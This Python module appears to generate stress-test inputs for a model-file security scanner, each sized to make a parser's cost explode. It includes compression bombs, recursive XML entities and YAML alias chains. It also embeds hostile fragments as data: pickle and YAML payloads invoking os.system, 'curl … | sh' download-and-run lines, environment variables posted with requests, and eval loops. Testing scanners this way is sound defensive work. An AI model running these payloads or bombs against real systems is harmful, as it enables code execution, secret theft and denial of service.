"""Makes inputs of any size that are costly to scan: one repeated or nested thing for each parser.

Each was made to meet a mechanism whose cost could grow faster than the input: streams tried within
streams, sums as deep as they are long, parts of a text joined again and again, names that name one
another, lists that are searched for each of their members. Over 500 lines, since every parser has
several such mechanisms, and one list of them says which inputs there are.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from importlib.util import MAGIC_NUMBER
from typing import Final

import lz4.frame
import zstandard


def _repeated(unit: bytes, before: bytes = b"", after: bytes = b"") -> Callable[[int], bytes]:
    return lambda size: (
        before + unit * max((size - len(before) - len(after)) // len(unit), 1) + after
    )


def _numbered(unit: str, before: str = "", after: str = "") -> Callable[[int], bytes]:
    """Return a maker of lines that hold their number as `{i}` and the one before as `{j}`."""

    def make(size: int) -> bytes:
        parts, left, number = [before], size - len(before) - len(after), 1
        while left > 0:
            part = unit.replace("{i}", str(number)).replace("{j}", str(number - 1))
            parts.append(part)
            left -= len(part)
            number += 1
        return ("".join(parts) + after).encode()

    return make


def _nested(opening: bytes, closing: bytes, before: bytes = b"", after: bytes = b"",
            middle: bytes = b"") -> Callable[[int], bytes]:  # fmt: skip
    def make(size: int) -> bytes:
        count = max(size // (len(opening) + len(closing)), 1)
        return before + opening * count + middle + closing * count + after

    return make


def _protobuf(depth_bytes: int) -> bytes:
    heads: list[bytes] = []
    length = 0
    while length < depth_bytes:
        rest, head = length, b"\x3a"
        while True:
            head += bytes([rest & 127 | (128 if rest > 127 else 0)])
            rest >>= 7
            if not rest:
                break
        heads.append(head)
        length += len(head)
    return b"".join(reversed(heads))


def _header(content: bytes) -> bytes:
    return struct.pack("<Q", len(content)) + content


def _npy(header: bytes) -> bytes:
    padded = header + b" " * (-(len(header) + 13) % 64) + b"\n"
    return b"\x93NUMPY\x02\0" + struct.pack("<I", len(padded)) + padded


def _zip(count: int, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(count):
            archive.writestr(str(number), content)
    return out.getvalue()


def _tar(count: int) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for number in range(count):
            archive.addfile(tarfile.TarInfo(str(number)))
    return out.getvalue()


def _tokenizer(size: int) -> bytes:
    vocabulary = {f"token{number}": number for number in range(size // 60)}
    merges = [["tok", f"en{number}"] for number in range(size // 60)]
    return json.dumps({"model": {"type": "BPE", "vocab": vocabulary, "merges": merges}}).encode()


def _tensors(size: int) -> bytes:
    entry = '"model.layers.%d.weight":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}'
    return _header(("{" + ",".join(entry % number for number in range(size // 78)) + "}").encode())


_CALL: Final = b"ccollections\nOrderedDict\n"
_PICKLES: Final[dict[str, Callable[[int], bytes]]] = {
    "calls.bin": _repeated(b"cos\nsystem\n(S'x'\ntR."),
    "calls.pkl": _repeated(b"cos\nsystem\n(S'x'\ntR."),
    "imports.bin": _repeated(b"cos\nsystem\n"),
    "imports_dead.pkl": _repeated(b"cos\nsystem\n0", b"\x80\x02", b"N."),
    "strings.bin": _repeated(b"S'x'\n"),
    "broken.bin": _repeated(b"\x80\x04\x95("),
    "broken.pkl": _repeated(b"cos\nsystem\n(\xff", b"\x80\x02N."),
    "protocols.bin": _repeated(b"\x80\x02}"),
    "opened.bin": _repeated(b"\x80\x02cos\nsystem\n("),
    "lines.bin": _repeated(b"ca\nb\n"),
    "unended.bin": _repeated(b"\x80\x02S", b"\x80\x02N."),
    "overlapping.bin": lambda size: (
        b"\x80\x02N." + (b"\x80\x02X" + struct.pack("<I", size // 2)) * (size // 7)
    ),
    "data.bin": _repeated(b"\x80\x02}", b"\xfe" * 64),
    "short_names.bin": _repeated(b"\x8c\x01a\x8c\x01b\x93"),
    "streams.pkl": _repeated(b"\x80\x02N."),
    "importing_streams.pkl": _repeated(b"\x80\x02" + _CALL + b")R."),
    "importing_data.bin": _repeated(b"\x80\x02" + _CALL + b")R.", b"\xfe" * 64),
    "nested_tuples.pkl": _nested(b"(", b"t", b"\x80\x02", b"."),
    "nested_dicts.pkl": _repeated(b"(K\x01h\x00u", b"\x80\x02}q\x00", b"."),
    "pairs.pkl": _repeated(b"2\x86", b"\x80\x02N", b"."),
    "marks.pkl": _repeated(b"(", b"", b"."),
    "marked_lists.pkl": _repeated(b"(l", b"\x80\x02", b"."),
    "appends.pkl": _repeated(b"]a", b"\x80\x02]", b"."),
    "frames.pkl": _repeated(b"\x95\x02\0\0\0\0\0\0\0N0", b"\x80\x04", b"N."),
    "globals.pkl": _numbered("cm{i}\nn\n0", "", "N."),
    "reductions.pkl": _repeated(b")R", b"\x80\x02" + _CALL, b"."),
    "unknown_calls.pkl": _repeated(b"cm\nn\n)R0", b"\x80\x02", b"N."),
    "persistent.pkl": _repeated(b"K\x00Q0", b"\x80\x02", b"N."),
    "memo.pkl": _repeated(b"h\x00a", b"\x80\x02]q\x00", b"."),
    "constants.pkl": _repeated(b"S'PK\\x03\\x04aaaaaaaaaaaaaaaa'\n0", b"", b"N."),
    "long_text.pkl": _repeated(b"\\x41", b"S'", b"'\n."),
    "long_name.pkl": _repeated(b"_", b"\x80\x02cmod\n", b"\n."),
    "long_number.pkl": _repeated(b"9", b"L", b"L\n."),
    "hexadecimal.pkl": lambda size: (
        b"\x80\x02X" + struct.pack("<I", size) + b"80" * (size // 2) + b"."
    ),
}
_CODE: Final[dict[str, Callable[[int], bytes]]] = {
    "formatted.py": _repeated(b"{a}", b"x=f'", b"'"),
    "formatted_texts.py": _repeated(b"a{a}", b"x=f'", b"'"),
    "formatted_calls.py": _repeated(b"{a()}", b"x=f'", b"'"),
    "many_formatted.py": _repeated(b"x=f'{a}{b}'\n"),
    "formatted_lines.py": _repeated(b"{a}\n", b"x=f'''", b"'''"),
    "formatted_pieces.py": _repeated(b"f'{a}'", b"x=(", b")"),
    "sum.py": _repeated(b"+a", b"x=a"),
    "sums.py": _repeated(b"x=a+a+a+a+a\n"),
    "signs.py": _repeated(b"-", b"x=", b"1"),
    "parentheses.py": _nested(b"(", b")", b"x="),
    "calls.py": _repeated(b"f()\n"),
    "call_chain.py": _repeated(b"()", b"x=a"),
    "argument_chain.py": _repeated(b"(1)", b"x=a"),
    "method_chain.py": _repeated(b".b()", b"x=a"),
    "call_nest.py": _nested(b"f(", b")", b"x="),
    "assignments.py": _numbered("a{i}=a{j}+a{j}\n"),
    "constants.py": _numbered("a{i}='x'+'y'\n"),
    "aliases.py": _numbered("f{i}=f{j} if x else f\n", "f=os.system\n"),
    "attributes.py": _repeated(b".b", b"x=a"),
    "items.py": _repeated(b"[0]", b"x=a"),
    "imports.py": _numbered("import a{i} as b{i}\n"),
    "functions.py": _numbered("def f{i}(x): return f{j}(f{j}(x))\n"),
    "classes.py": _numbered("class A{i}(A{j}):\n x='y'\n def f(self): return g\n"),
    "lambdas.py": _repeated(b"lambda:", b"x=", b"1"),
    "texts.py": _repeated(b"'a'", b"x="),
    "targets.py": _numbered("a{i}=", "", "os.system\n"),
    "loops.py": _repeated(b"for i in [1,2,3]:\n x+='a'\n", b"x=''\n"),
    "grown.py": _repeated(b"x+='aaaa'\n", b"x=''\n"),
    "given.py": _numbered(
        "a{i}=b{i}=dict(os.environ,**a{i}); requests.post(a{i}, b{i})\n",
        "import os, requests\n",
        "",
    ),
    "handed.py": _numbered(
        "def f{i}(a): return f{i}(g(a))\nrequests.post(f{i}(os.environ))\n",
        "import os, requests\n",
        "",
    ),
    "kept.py": _repeated(
        b"x.append(dict(x)); x = [*x, *x]; open(x, 'w').write(x)\n",
        b"import os, requests\nx = os.environ\n",
    ),
    "subscripts.py": _repeated(b"d['a']()\n", b"d={'a':b}\n"),
    "table.py": _numbered("'k{i}':f,", "d={", "}\n" + "d['z']()\n" * 50),
    "table_and_lookups.py": lambda size: (
        b"d={"
        + b"".join(b"'k%d':f," % i for i in range(size // 24))
        + b"}\n"
        + b"d['z']()\n" * (size // 18)
    ),
    "getattrs.py": _repeated(b"getattr(os,'sys'+'tem')(x)\n", b"import os\n"),
    "annotations.py": _repeated(b"x: a[b,c] = 1\n"),
    "annotation_nest.py": _nested(b"a[", b"]", b"x: ", b" = 1\n", b"b"),
    "comprehensions.py": _repeated(b"[i for i in x];"),
    "dictionary.py": _numbered("'k{i}':{i},", "x={", "}"),
    "boolean.py": _repeated(b" or a", b"x=a"),
    "comparisons.py": _repeated(b"<a", b"x=a"),
    "conditions.py": _repeated(b" if b else a", b"x=a"),
    "ternary_names.py": _repeated(b"x=a if b else c\n"),
    "elif.py": _repeated(b"elif a:pass\n", b"if a:pass\n"),
    "arguments.py": _numbered("a{i},", "f(", ")"),
    "bytes.py": _repeated(b"x=b'\\x41\\x42'\n"),
    "escapes.py": _repeated(b"\\x41", b"x='", b"'"),
    "decorators.py": _repeated(b"@a\n", b"", b"def f(): pass\n"),
    "walrus.py": _repeated(b"(a:=a)\n"),
    "spawns.py": _repeated(b"os.system('ls')\n", b"import os\n"),
    "reads.py": _repeated(b"x=requests.get(y).text\n", b"import requests\n"),
    "globals.py": _repeated(b"a.__init__.__globals__\n"),
    "introspection.py": _repeated(b".__globals__", b"x=a"),
    "library.py": _repeated(b"a", b"import ctypes\nctypes.CDLL('libcuda", b"!')\n"),
    "version_file.py": _repeated(b"version", b"exec(open('", b"x').read())\n"),
    "fetches.py": _repeated(b"os.system('" + b"curl " * 800 + b"')\n", b"import os\n"),
    "listeners.py": _repeated(b"os.system('" + b"nc " * 1300 + b"')\n", b"import os\n"),
}
_TEMPLATES: Final[dict[str, Callable[[int], bytes]]] = {
    "sum.jinja": _repeated(b"+a", b"{{ a", b" }}"),
    "joined.jinja": _repeated(b"~a", b"{{ a", b" }}"),
    "text_sum.jinja": _repeated(b"+'a'", b"{{ 'a'", b" }}"),
    "products.jinja": _repeated(b"*2", b"{{ 2", b" }}"),
    "filters.jinja": _repeated(b"|join", b"{{ a", b" }}"),
    "text_filters.jinja": _repeated(b"|lower", b"{{ 'a'", b" }}"),
    "attributes.jinja": _repeated(b".b", b"{{ a", b" }}"),
    "items.jinja": _repeated(b"['b']", b"{{ a", b" }}"),
    "calls.jinja": _repeated(b"()", b"{{ a", b" }}"),
    "outputs.jinja": _repeated(b"{{ a.b.c|join }}"),
    "framework.jinja": _repeated(b"{{ config.items }}"),
    "escapes.jinja": _repeated(b"{{ self.x }}"),
    "conditions.jinja": _nested(b"{% if a %}", b"{% endif %}"),
    "ternary.jinja": _repeated(b" if b else a", b"{{ a", b" }}"),
    "braces.jinja": _repeated(b"{{ ('{' * 4000).format(1) }}"),
    "told.jinja": _repeated(b"a", b"{% if 'deploy' in message.content %}", b"{% endif %}"),
    "ternary_tests.jinja": _nested(b"(", b" if b else c)", b"{{ a if ", b" else d }}", b"a"),
    "parentheses.jinja": _nested(b"(", b")", b"{{", b"}}", b"x"),
    "opened.jinja": _repeated(b"{{"),
    "comments.jinja": _repeated(b"{#"),
    "assigned.jinja": _numbered("{% set a{i} = a{j} ~ a{j} %}", "{% set a0 = 'x' %}"),
    "assigned_once.jinja": _numbered("{% set a = a ~ 'x{i}' %}", "{% set a = 'x' %}"),
    "values.jinja": _repeated(
        b"{{ a+a }}", b"".join(b"{%% set a = '%d' %%}" % i for i in range(32))
    ),
    "value_sum.jinja": _repeated(
        b"+a", b"".join(b"{%% set a = '%d' %%}" % i for i in range(32)) + b"{{ a", b" }}"
    ),
    "value_join.jinja": _repeated(
        b"~a", b"".join(b"{%% set a = '%d' %%}" % i for i in range(32)) + b"{{ a", b" }}"
    ),
    "macros.jinja": _numbered("{% macro m{i}() %}{{ m{j}() }}{% endmacro %}"),
    "list.jinja": _repeated(b"'a',", b"{{ [", b"] }}"),
    "list_nest.jinja": _nested(b"[", b"]", b"{{", b"}}", b"'a'"),
    "loops.jinja": _nested(b"{% for i in range(2) %}", b"{% endfor %}"),
    "text.jinja": _repeated(b"<scripty javascript "),
    "powers.jinja": _repeated(b"**2", b"{{ 2", b" }}"),
    "signs.jinja": _repeated(b"-", b"{{ ", b"2 }}"),
    "negations.jinja": _repeated(b"not ", b"{{ ", b"a }}"),
    "formats.jinja": _repeated(b"{{ '%s' % a }}"),
}
_DOCUMENTS: Final[dict[str, Callable[[int], bytes]]] = {
    "tokenizer.json": _tokenizer,
    "words/tokenizer.json": _repeated(
        b"a-", b'{"model": {}, "added_tokens": [{"id": 1, "content": "', b'"}]}'
    ),
    "letters/tokenizer.json": _repeated(
        b"a", b'{"model": {}, "normalizer": {"type": "Prepend", "prepend": "', b'"}}'
    ),
    "deep.json": _nested(b"[", b"]"),
    "deep_objects.json": _nested(b'{"a":', b"}", middle=b"1"),
    "deep_quiet.json": lambda size: (
        b'{"x":' + b"[" * 900 + b'"abcdefghijkl",' * (size // 15) + b"1" + b"]" * 900 + b"}"
    ),
    "keys.json": _numbered('"a{i}":{i},', "{", '"z":0}'),
    "equal_keys.json": _repeated(b'"a":1,', b"{", b'"b":1}'),
    "auto_map.json": _numbered('"A{i}":"m.C--x",', '{"auto_map":{', '"z":"a.b"}}'),
    "targets.json": _repeated(b'{"_target_":"os.system"},', b"[", b"1]"),
    "texts.json": _repeated(b'"aaaa bbbb cccc",', b"[", b"1]"),
    "encoded.json": _repeated(b'"gASVgASVgASVgASVgASV",', b"[", b"1]"),
    "number.json": _repeated(b"9", b"[", b"]"),
    "numbers.json": _repeated(b"1,", b"[", b"1]"),
    "nan.json": _repeated(b"NaN,", b"[", b"1]"),
    "lines.jsonl": _repeated(b'{"a":1}\n'),
    "config.json": _numbered('"a{i}":"curl x | sh; os.system(1)",', "{", '"z":0}'),
    "long_text.json": lambda size: json.dumps({"a": "b " * (size // 2)}).encode(),
    "template.json": lambda size: json.dumps(
        {"chat_template": "{{ m['c'] ~ m.x }}" * (size // 18)}
    ).encode(),
    "notebook.ipynb": lambda size: json.dumps(
        {"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!ls\n"] * 10}] * (size // 120)}
    ).encode(),
    "output.ipynb": lambda size: json.dumps(
        {
            "nbformat": 4,
            "cells": [
                {
                    "cell_type": "code",
                    "source": "",
                    "outputs": [{"data": {"text/html": "<script " * (size // 8)}}],
                }
            ],
        }
    ).encode(),
    "flat.yaml": _numbered("k{i}: v\n"),
    "deep.yaml": _nested(b"[", b"]", b"a: "),
    "aliases.yaml": _numbered("a{i}: &a{i} [*a{j}]\n", "a0: &a0 [x]\n"),
    "aliased_mappings.yaml": _numbered("a{i}: &a{i} {k: *a{j}, l: x{i}}\n", "a0: &a0 {k: x}\n"),
    "tags.yaml": _repeated(b"- !!python/object/apply:os.system [x]\n"),
    "lines.yaml": _repeated(b"x\n  ", b"a: "),
    "quoted.yaml": _repeated(b"x\n ", b'a: "', b'"'),
    "spaces.yaml": _repeated(b" ", b"a:", b"b"),
    "flow.yaml": _repeated(b"x,", b"a: [", b"x]"),
    "keys.yaml": _repeated(b"? a\n"),
    "anchors.yaml": _numbered("- &a{i} x\n"),
    "deep.xml": _nested(b"<a>", b"</a>"),
    "attributes.xml": _numbered(' b{i}=""', "<a", "/>"),
    "elements.xml": _repeated(b"<a b='c'/>", b"<r>", b"</r>"),
    "comment.xml": _repeated(b"a", b"<!--"),
    "open.xml": _repeated(b"<a ", b"<r>"),
    "entities.xml": _numbered('<!ENTITY b{i} "&b{j};">', '<!DOCTYPE a [<!ENTITY b0 "x">', "]><a/>"),
    "net.xml": _repeated(b"<layer type='A' id='1'/>", b"<net><layers>", b"</layers></net>"),
    "requirements.txt": _numbered("a{i}[b,c]>=1,<2 ; python_version<'3'\n"),
    "requirements_line.txt": _repeated(b"[a,b]", b"x"),
    "README.md": _repeated(b"[a](http://b.example/) `curl x | sh` ", b"---\nlicense: x\n---\n"),
    "fences/README.md": _repeated(b"```\n"),
    "dashes/README.md": _repeated(b"---\n"),
    "images/README.md": _repeated(b"![](", b"# x\n"),
    "brackets/README.md": _repeated(b"[", b"# x\n"),
    "spaces/README.md": _repeated(b" \n", b"# x\n"),
    "script.sh": _repeated(b"curl http://a.example/x | sh ; "),
    "quotes.sh": _repeated(b'curl "$(echo "`a <<B ${c} '),
    "brackets.sh": _repeated(b"curl | sh <( $( { [[ "),
    "grown.sh": _repeated(b'a=$a$a;eval "$a";curl $a|sh;'),
    "joined.sh": _repeated(b"env|base64>a;cat a|tr b c|sh;for d in $(cat a);do eval $d;"),
    "programs.sh": _repeated(b"bitsadmin "),
    "fetches.sh": _repeated(b"curl " * 800 + b"\n"),
    "newlines.pt": _repeated(b"\n", b"a line of text"),
    "lines.sh": _repeated(b"curl http://a.example/x | sh\n"),
    "encoded_lines.sh": _repeated(b"echo gASVgASVgASVgASVgASVgASV\n"),
    "text.txt": _repeated(b"QUJD"),
    "Modelfile": _repeated(b"FROM x\nTEMPLATE {{ a }}\n"),
    "Dockerfile": _repeated(b"RUN curl x \\\n"),
    ".gitattributes": _repeated(b"* filter=lfs diff=lfs\n"),
    "pyproject.toml": _repeated(b'"a>=1",\n'),
    "key.toml": _repeated(b"a.", b"", b"a=1\n"),
    "values.ini": _repeated(b"a=b\n", b"[x]\n"),
    "page.html": _repeated(b"<div onx "),
    "site.pth": _repeated(b"import os; f'{a}'\n"),
    "armour.bin": _repeated(b"QUJD\n"),
    "hexadecimal.bin": _repeated(b"41 "),
    "spaces.bin": _repeated(b" "),
    "newlines.bin": _repeated(b"\n"),
    "words.bin": _repeated(b"import x\n"),
    "shell.bin": _repeated(b"curl x\n"),
    "php.bin": _repeated(b"<?php "),
    "markup.bin": _repeated(b"<script ", b"<html>"),
}


def _armour_nest(size: int) -> bytes:
    raw = b"\x80\x04N."
    while len(raw) * 4 // 3 < size:
        raw = base64.b64encode(raw + b"x" * 64)
    return raw.ljust(size, b"A")


def _gguf(pairs: bytes, count: int) -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 3, 0, count) + pairs


_BINARIES: Final[dict[str, Callable[[int], bytes]]] = {
    "tensors.safetensors": _tensors,
    "metadata.safetensors": lambda size: _header(
        json.dumps({"__metadata__": {f"key{i}": "value of it" for i in range(size // 26)}}).encode()
    ),
    "duplicates.safetensors": lambda size: _header(
        b"{"
        + b'"a":{"dtype":"F32","shape":[0],"data_offsets":[0,0]},' * (size // 54)
        + b'"b":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}}'
    ),
    "template.safetensors": lambda size: _header(
        json.dumps({"__metadata__": {"t": "{{ a" + "+a" * (size // 2) + " }}"}}).encode()
    ),
    "nested.safetensors": lambda size: _header(
        b'{"a":' + b"[" * (size // 2) + b"]" * (size // 2) + b"}"
    ),
    "keys.gguf": lambda size: _gguf(
        b"".join(
            struct.pack("<Q", 8) + b"k%07d" % i + struct.pack("<II", 4, 1)
            for i in range(size // 24)
        ),
        size // 24,
    ),
    "equal_keys.gguf": lambda size: _gguf(
        (struct.pack("<Q", 8) + b"kkkkkkkk" + struct.pack("<II", 4, 1)) * (size // 24), size // 24
    ),
    "texts.gguf": lambda size: _gguf(
        (struct.pack("<Q", 1) + b"k" + struct.pack("<IIQ", 9, 8, size // 9))
        + (struct.pack("<Q", 1) + b"x") * (size // 9),
        1,
    ),
    "nested.gguf": lambda size: _gguf(
        struct.pack("<Q", 1)
        + b"k"
        + struct.pack("<I", 9)
        + struct.pack("<IQ", 9, 1) * (size // 12),
        1,
    ),
    "template.gguf": lambda size: _gguf(
        struct.pack("<Q", 23)
        + b"tokenizer.chat_template"
        + struct.pack("<IQ", 8, size // 2 * 2 + 8)
        + b"{{  a"
        + b"+a" * (size // 2)
        + b" }}",
        1,
    ),
    "fields.onnx": _repeated(b"\x3a\x00", b"\x08\x07"),
    "graphs.onnx": _repeated(b"\x3a\x06\x0a\x04\x22\x02Ad", b"\x08\x07"),
    "nested.pb": _protobuf,
    "nested.onnx": lambda size: b"\x08\x07" + _protobuf(size),
    "nested.msgpack": _repeated(b"\x91"),
    "maps.msgpack": lambda size: b"\xdd" + struct.pack(">I", size) + b"\x80" * size,
    "numbers.msgpack": lambda size: b"\xdd" + struct.pack(">I", size) + b"\x01" * size,
    "texts.msgpack": lambda size: b"\xdd" + struct.pack(">I", size // 3) + b"\xa2ab" * (size // 3),
    "nested.ubj": _repeated(b"["),
    "objects.ubj": _repeated(b"{L\0\0\0\0\0\0\0\x01a"),
    "fields.npy": lambda size: _npy(
        b"{'descr':[" + b"('a','<f4')," * (size // 12) + b"],'fortran_order':False,'shape':(1,)}"
    ),
    "nested.npy": lambda size: _npy(
        b"{'descr':"
        + b"(" * (size // 2)
        + b")" * (size // 2)
        + b",'fortran_order':False,'shape':(1,)}"
    ),
    "pickled.npy": lambda size: (
        _npy(b"{'descr':'|O','fortran_order':False,'shape':(1,)}")
        + b"cos\nsystem\n(S'x'\ntR." * (size // 21)
    ),
    "members.zip": lambda size: _zip(size // 100, b""),
    "pickles.pt": lambda size: _zip(size // 140, b"\x80\x02" + _CALL + b")R."),
    "heads.zip": _repeated(b"PK\x03\x04\x14\0\0\0\0\0" + bytes(20)),
    "ends.zip": _repeated(b"PK\x05\x06" + bytes(18)),
    "directory.zip": _repeated(b"PK\x01\x02" + bytes(42)),
    "members.tar": lambda size: _tar(size // 512),
    "long_names.tar": lambda size: _tar(1) + b"x" * size,
    "zeros.gz": lambda size: gzip.compress(bytes(size * 10)),
    "zeros.bz2": lambda size: bz2.compress(bytes(size * 10)),
    "zeros.xz": lambda size: lzma.compress(bytes(size * 10), preset=0),
    "calls.gz": lambda size: gzip.compress(b"cos\nsystem\n(S'x'\ntR." * (size // 21)),
    "zeros.bin": bytes,
    "zeros.h5": lambda size: b"\x89HDF\r\n\x1a\n" + bytes(size),
    "gzip_heads.bin": _repeated(b"\x1f\x8b\x08\0" + bytes(6)),
    "zip_heads.bin": _repeated(b"PK\x03\x04\x14\0\0\0\0\0" + bytes(20), b"\xfe" * 30),
    "encoded.bin": _repeated(b"gASVgASVgASVgASVgASV", b"\xfe" * 30),
    "encoded_apart.bin": _repeated(b"gASVgASVgASVgASVgASV\0", b"\xfe" * 30),
    "armour_nest.bin": _armour_nest,
    "programs.bin": _repeated(b"\x7fELF\x01\x01\x01\0", b"\xfe" * 30),
    "tflite.tflite": _repeated(b"TFL3", b"\x18\0\0\0TFL3"),
    "noise.bin": lambda size: (
        b"".join(bytes([(i * 7919 >> 3) & 255]) for i in range(4096)) * (size // 4096 + 1)
    )[:size],
}
_MATRIX: Final = struct.pack("<5i", 0, 1, 1, 0, 2) + b"a\0" + bytes(8)
_FURTHER: Final[dict[str, Callable[[int], bytes]]] = {
    "entries.appledouble": lambda size: (
        struct.pack(">II16xH", 0x00051607, 0x20000, min(size // 12, 65_535))
        + struct.pack(">III", 9, 26, 4) * (size // 12)
    ),
    "functions.pyc": lambda size: (
        MAGIC_NUMBER
        + bytes(12)
        + marshal.dumps(compile("f = lambda: 1\n" * (size // 150 + 1), "m", "exec"))
    ),
    "nested.pyc": lambda size: MAGIC_NUMBER + bytes(12) + b")\x01" * (size // 2) + b"N",
    "trees.lgb": _numbered("Tree={i}\nnum_leaves=2\n", "tree\nversion=v4\n", "end of trees\n"),
    "lines.lgb": _repeated(b"a=b\n", b"tree\nversion=v4\n"),
    "parts.cbm": _repeated(b"\x04\0\0\0", b"CBM1"),
    "elements.mat": _repeated(
        struct.pack("<II", 1, 8) + bytes(8),
        b"MATLAB 5.0 MAT-file".ljust(124) + b"\0\1IM",
    ),
    "matrices.mat": _repeated(_MATRIX),
    "words.vec": _numbered("word{i} 0.5 0.25\n", "100000 2\n"),
    "words.fasttext": _repeated(
        b"word\0" + struct.pack("<qb", 1, 0),
        b"\xba\x16\x4f\x2f" + struct.pack("<i", 12) + bytes(56),
    ),
    "fields.mlmodel": _repeated(b"\x12\x02\x0a\x00", b"\x08\x05"),
    "nested.mlmodel": lambda size: b"\x08\x05" + _protobuf(size),
    "pieces/spiece.model": _repeated(b"\x0a\x0a\x0a\x03abc\x15\0\0\0\0"),
    "records.tfrecord": _repeated(struct.pack("<Q", 4) + bytes(4) + b"abcd" + bytes(4)),
    "nodes.pbtxt": _repeated(b'node {\n  name: "x"\n  op: "Const"\n}\n'),
    "nested.pbtxt": _nested(b"node {", b"}"),
    "program.pte": _repeated(b"\x04\0\0\0", struct.pack("<I", 8) + b"ET12"),
    "layers.engine": _repeated(b"layer\0\1\0", b"ftrt" + bytes(20)),
    "sections.so": _repeated(b"\x7fELF\x02\x01\x01" + bytes(9) + b"lib.so\0"),
    "zeros.zlib": lambda size: zlib.compress(bytes(size * 10)),
    "zeros.lzma": lambda size: lzma.compress(bytes(size * 10), lzma.FORMAT_ALONE, preset=0),
    "zeros.zst": lambda size: zstandard.compress(bytes(size * 10)),
    "zeros.lz4": lambda size: lz4.frame.compress(bytes(size * 10)),
    "frames.zst": lambda size: zstandard.compress(b"x") * (size // 10),
    "frames.lz4": lambda size: lz4.frame.compress(b"x") * (size // 20),
    "members.gz": lambda size: gzip.compress(b"x", mtime=0) * (size // 21),
    "heads.7z": _repeated(b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24)),
}
INPUTS: Final[dict[str, Callable[[int], bytes]]] = {
    **_PICKLES, **_CODE, **_TEMPLATES, **_DOCUMENTS, **_BINARIES, **_FURTHER,
}  # fmt: skip
"""By the file's name, which says which parser reads it: what makes it of about so many bytes."""
